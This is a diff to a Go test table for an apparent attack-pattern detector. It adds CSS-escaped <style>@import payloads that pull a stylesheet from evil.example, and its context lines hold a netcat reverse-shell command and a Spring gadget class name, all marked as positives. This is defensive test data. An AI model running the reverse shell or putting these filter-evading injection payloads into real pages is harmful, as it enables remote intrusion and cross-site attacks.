@@ -60,6 +60,12 @@ func TestGrammarShapes(t *testing.T) {
 		{"org.springframework.context.support.ClassPathXmlApplicationContext", true},
 		{`ApplicationContext ctx = new ClassPathXmlApplicationContext("beans.xml");`, false},
 		{"see org.springframework.context.support for the XML contexts", false},
+		// CSS escapes inside a style sheet's @import.
+		{"<STYLE>@\\import'http://evil.example/x.css';</STYLE>", true},
+		{"<style>@\\69mport url(//evil.example/x.css)</style>", true},
+		{"<style>@im\\port'//evil.example/x.css'</style>", true},
+		{`<style>.icon:before{content:"\f101"}</style>`, false},
+		{"<style>@media (max-width:600px){a{color:red}}</style>", false},
 		// Reverse and bind shells, wherever they sit; output piped into
 		// a shell; commands on system directories.
 		{"nc 203.0.113.5 4444 -e /bin/sh", true},
